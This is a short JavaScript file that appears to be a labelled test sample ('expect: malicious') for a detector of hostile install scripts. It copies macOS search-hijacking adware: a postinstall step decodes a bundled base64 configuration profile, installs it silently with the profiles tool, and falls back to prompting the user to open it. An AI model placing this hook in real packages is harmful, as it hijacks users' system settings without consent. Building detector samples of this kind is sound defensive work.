// when: install
// expect: malicious
// source: blind set 17's cft-mac (macOS search-hijacking adware's configuration profiles): the postinstall writes a
// profile decoded from the package and installs it with `profiles install` (or opens it for the user to approve)
const { execFileSync, spawnSync } = require('child_process'), fs = require('fs'), os = require('os'), path = require('path');
const out = path.join(os.homedir(), 'Library', 'Application Support', 'cft', 'defaults.mobileconfig');
fs.writeFileSync(out, Buffer.from(fs.readFileSync(path.join(__dirname, 'defaults.b64'), 'utf8'), 'base64'));
try { execFileSync('/usr/bin/profiles', ['install', '-type', 'configuration', '-path', out]); }
catch { spawnSync('/usr/bin/open', [out]); }
